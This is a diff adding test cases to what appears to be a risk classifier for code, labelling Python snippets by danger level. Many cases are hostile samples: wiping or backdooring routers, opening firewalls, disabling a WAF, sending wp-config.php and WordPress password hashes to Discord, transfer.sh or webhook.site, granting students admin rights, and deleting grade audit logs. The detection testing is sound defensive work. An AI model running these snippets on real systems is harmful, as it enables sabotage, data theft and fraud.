@@ -3073,6 +3073,115 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "exec(src)\n\nrule all:\n    input: 'x'",
             C,
         ),
+        # network devices through netmiko/PyEZ/napalm and firewall APIs
+        (
+            "from netmiko import ConnectHandler\nfor d in ['10.0.0.1']:\n"
+            "    c = ConnectHandler(device_type='cisco_ios', host=d, username='u', password='p')\n"
+            "    c.send_config_set(['line vty 0 15', ' no access-class MGMT-ONLY in', ' transport input telnet ssh'])",
+            H,
+        ),
+        (
+            "from netmiko import ConnectHandler\nc = ConnectHandler(device_type='cisco_ios', host='r1', username='u', "
+            "password='p')\nprint(c.send_command('show running-config'))",
+            S,
+        ),
+        (
+            "from netmiko import ConnectHandler\nc = ConnectHandler(device_type='cisco_ios', host='r1', username='u', "
+            "password='p')\nc.send_command_timing('write erase')",
+            H,
+        ),
+        (
+            "from netmiko import ConnectHandler\napplet = '''event manager applet SYSCHK\n action 1.0 cli command "
+            "\"username x privilege 15 secret 0 y\"'''\nc = ConnectHandler(device_type='cisco_ios', host='r1', "
+            "username='u', password='p')\nc.send_config_set(applet.splitlines())",
+            H,
+        ),
+        (
+            "from jnpr.junos import Device\nwith Device(host='mx1') as dev:\n    "
+            "dev.rpc.request_system_zeroize(media=True)",
+            H,
+        ),
+        (
+            "from napalm import get_network_driver\ndev = get_network_driver('ios')('r1', 'u', 'p')\ndev.open()\n"
+            "dev.load_merge_candidate(config='no aaa new-model\\nsnmp-server community public RW')\n"
+            "dev.commit_config()",
+            H,
+        ),
+        (
+            "import requests\nrequests.post('https://fw01/api/firewall/filter/addRule', json={'rule': "
+            "{'action': 'pass', "
+            "'interface': 'wan', 'source_net': 'any', 'destination_net': 'any'}})",
+            H,
+        ),
+        (
+            "import requests\nrequests.post('https://fw01/api/firewall/filter/addRule', json={'rule': "
+            "{'action': 'pass', "
+            "'interface': 'lan', 'source_net': '10.0.0.0/24', 'destination_net': 'any'}})",
+            L,
+        ),
+        (
+            "import requests\nrequests.post('https://fw-hq/api/v2/cmdb/system/admin', json={'name': 'n', "
+            "'accprofile': 'super_admin', 'trusthost1': '0.0.0.0 0.0.0.0'})",
+            H,
+        ),
+        (
+            "from ncclient import manager\nwith manager.connect(host='vmx1', username='n', "
+            "key_filename='/home/netops/.ssh/lab_ed25519', hostkey_verify=False) as m:\n"
+            "    print(m.get_config(source='running'))",
+            M,
+        ),
+        (
+            "import pathlib\nfrom netmiko import ConnectHandler\nout = pathlib.Path('backups') / '2024-05-01'\n"
+            "out.mkdir(parents=True, exist_ok=True)\nfor host in open('hosts.txt').read().split():\n"
+            "    c = ConnectHandler(device_type='cisco_ios', host=host, username='u', password='p')\n"
+            "    (out / f'{host}.cfg').write_text(c.send_command('show running-config'))",
+            S,
+        ),
+        # websites and schools
+        (
+            "import re, requests\ncfg = open('/var/www/html/wp-config.php').read()\n"
+            "requests.post('https://discord.com/api/webhooks/1/x', json={'content': cfg})",
+            C,
+        ),
+        ("import re\ncfg = open('wp-config.php').read()\nprint(re.findall(r\"define\\('DB_NAME'\", cfg))", M),
+        (
+            "import os, requests\nH = {'Authorization': 'Bearer ' + os.environ['CF_API_TOKEN']}\n"
+            "for k in ('waf', 'ssl'):\n    "
+            "requests.patch(f\"https://api.cloudflare.com/client/v4/zones/Z/settings/{k}\", "
+            "headers=H, json={'value': 'off'})",
+            H,
+        ),
+        (
+            "import mysql.connector, requests\ncur = mysql.connector.connect(database='wordpress').cursor()\n"
+            "cur.execute('SELECT user_login, user_email, user_pass FROM wp_users')\n"
+            "requests.put('https://transfer.sh/u.csv', data=str(cur.fetchall()))",
+            C,
+        ),
+        (
+            "import requests\nrows = requests.get('https://canvas.example.edu/api/v1/courses/1/enrollments', "
+            "headers={'Authorization': 'Bearer t'}).json()\nrequests.post('https://webhook.site/x', json=rows)",
+            C,
+        ),
+        (
+            "import requests\nrequests.post('https://lms.k12.org/api/v1/accounts/1/admins', data={'user_id': 7, "
+            "'role': 'AccountAdmin'})",
+            H,
+        ),
+        (
+            "from googleapiclient.discovery import build\nsvc = build('admin', 'directory_v1')\n"
+            "svc.users().makeAdmin(userKey='student@school.org', body={'status': True}).execute()",
+            H,
+        ),
+        (
+            "import pickle, glob\nfor p in glob.glob('/srv/autograder/submissions/*/output/results.pkl'):\n"
+            "    print(pickle.load(open(p, 'rb')))",
+            H,
+        ),
+        (
+            "import sqlite3\ndb = sqlite3.connect('/srv/sis/gradebook.sqlite3')\n"
+            "db.execute('DELETE FROM grade_audit_log WHERE student_id = ?', (7,))",
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
